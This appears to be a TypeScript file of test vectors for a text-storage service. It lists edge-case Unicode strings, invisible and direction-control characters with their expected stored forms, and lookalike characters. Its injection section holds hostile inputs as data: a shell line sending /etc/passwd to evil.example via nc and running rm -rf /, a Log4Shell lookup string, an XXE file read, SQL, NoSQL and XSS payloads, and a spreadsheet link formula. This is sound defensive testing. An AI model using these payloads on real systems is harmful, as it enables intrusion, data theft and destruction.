/** A text as somebody may send it, and as it has to come back. Without `stored` it comes back as it was sent. */
export interface TextVector {
  name: string;
  sent: string;
  stored?: string;
}

const same = (name: string, sent: string): TextVector => ({ name, sent });

/** What has broken other people's software: taken as it is, and given back so. */
export const naughty: TextVector[] = [
  ...['undefined', 'null', 'NULL', 'nil', 'None', 'NaN', 'true', 'false', '-1', '0', '1e1000', '0x0', '١٢٣'].map(
    (word) => same(`the word ${word}`, word),
  ),
  same('an object as text', '[object Object]'),
  same('a name that trips filters', 'Scunthorpe'),
  same('quotes of all kinds', `'"\`´‘’“”„«»‹›`),
  same('backslashes', '\\ \\\\ \\n \\u0000 \\'),
  same('ASCII punctuation', '!@#$%^&*()_+-=[]{};:,.<>/?|~'),
  same('emoji with joiners and skin', '👩‍👩‍👧‍👦 👋🏽 🏳️‍🌈 🇦🇱'),
  same('letters above the basic plane', '𝒜𝓁𝒷𝒶𝓃𝒾𝒶 𠜎𠜱'),
  same('right-to-left letters', 'مرحبا שלום'),
  same('a word that crashed a telephone', 'జ్ఞా'),
  same('marks heaped up', 'Z̷̧̢̛͈͔͒͂̓a̴l̶g̵o̸'),
  same('Albanian letters', 'Çdo ditë më tallin, ndihmë! Ë ë Ç ç'),
  same('Serbian and Greek letters', 'Помоћ Βοήθεια'),
  same('a Turkish dotless i', 'İ ı I i'),
  same('a long s and a sharp s', 'ſ ß ẞ'),
  same('line breaks between words', 'one\ntwo\n\nthree'),
  same('a long word', 'a'.repeat(200)),
  same('one character', 'a'),
  same('private use and what is no character', '\ue000 \ufffe \u{10ffff}'),
];

/** Meant for an interpreter: nothing here reads text as anything but text. */
export const injection: TextVector[] = [
  same('SQL', `Robert'); DROP TABLE Students;-- ' OR '1'='1`),
  same('NoSQL', '{"$gt": ""} {"$where": "sleep(1000)"}'),
  same('a key of the database', 'CASE#1|META DIRECTORY#REVISION attribute_exists(pk)'),
  same('an expression of the database', ':partition = :partition OR pk = :pk #name'),
  same('HTML', '<script>alert(1)</script><img src=x onerror=alert(1)>'),
  same('closing tags', '"></textarea></title></style></script><svg/onload=alert(1)>'),
  same('an entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
  same('a template', '{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {name} {limit}'),
  same('a logger', '${jndi:ldap://evil.example/a}'),
  same('a shell', '; cat /etc/passwd | nc evil.example 1 `id` $(id) && rm -rf /'),
  same('a path', '../../../../etc/passwd ..\\..\\windows\\win.ini'),
  same('a spreadsheet', '=HYPERLINK("http://evil.example","x") +1 -1 @SUM(1)'),
  same('a format', '%s%n%x%d %99999999s {0}'),
  same('LDAP and XPath', "*)(uid=*))(|(uid=* ' or count(//*)=1 or 'a'='b"),
  same('a replacement of regular expressions', '$& $1 $$ $` (?:(?=a)*)*'),
  same('a mail header', 'Subject: x\nBcc: evil@example.com\n\n.'),
  same('a log line', '{"level":"info","code":"report_accepted"}\nfake'),
];

/** What nobody can see or what turns a line around: taken out, and no reason to refuse. Source: docs/contract.md, Never refused for form. */
export const unseen: TextVector[] = [
  { name: 'a zero', sent: 'a\u0000b', stored: 'ab' },
  { name: 'controls', sent: 'a\u0001\u0007\b\u001b[31m\u007fb', stored: 'a[31mb' },
  { name: 'controls of the second set', sent: 'a\u0080\u0084\u009fb', stored: 'ab' },
  { name: 'vertical tab, form feed and next line', sent: 'a\vb\fc\u0085d', stored: 'a\nb\nc\nd' },
  { name: 'a tab', sent: 'a\tb', stored: 'a b' },
  { name: 'line ends of all systems', sent: 'a\r\nb\rc\nd', stored: 'a\nb\nc\nd' },
  { name: 'line and paragraph separators', sent: 'a\u2028b\u2029c', stored: 'a\nb\nc' },
  { name: 'a name of a file turned around', sent: 'photo\u202egpj.exe', stored: 'photogpj.exe' },
  { name: 'embeddings and overrides', sent: '\u202aa\u202bb\u202cc\u202dd\u202ee', stored: 'abcde' },
  { name: 'isolates', sent: 'a\u2066b\u2067c\u2068d\u2069e', stored: 'abcde' },
  { name: 'direction marks', sent: 'a\u200eb\u200fc\u061cd', stored: 'abcd' },
  { name: 'a byte order mark inside', sent: 'a\ufeffb', stored: 'ab' },
  { name: 'blanks around', sent: ' \u00a0\u3000\n text \n\u2003 ', stored: 'text' },
  { name: 'a mark behind its letter', sent: 'e\u0308 c\u0327', stored: 'ë ç' },
  { name: 'marks in another order', sent: 'q\u0307\u0323', stored: 'q\u0323\u0307' },
  { name: 'letters that are one in NFC', sent: '\u212b \u2126 \u1112\u1161\u11ab', stored: 'Å Ω 한' },
  { name: 'a mark that a control kept apart', sent: 'e\u0000\u0308', stored: 'ë' },
  { name: 'a direction between the halves of a line end', sent: 'a\r\u200e\nb', stored: 'a\n\nb' },
];

/** Look like others, and stay what they are: what was typed is evidence. */
export const confusable: TextVector[] = [
  same('Cyrillic among Latin', 'раураl.com аdmin'),
  same('full width', 'ａｄｍｉｎ＠ｅｘａｍｐｌｅ'),
  same('mathematical letters', '𝐚𝐝𝐦𝐢𝐧'),
  same('ligatures and superscripts', 'ﬁle m² ½'),
  same('a blank of no width', 'ad\u200bmin'),
  same('a soft hyphen and joiners', 'ad\u00admin a\u200cb a\u200db'),
  same('invisible tags', 'a\u{e0041}\u{e0042}b'),
  same('other dots and slashes', 'example。com⁄a∕b'),
  same('digits of other scripts', '０١२'),
];
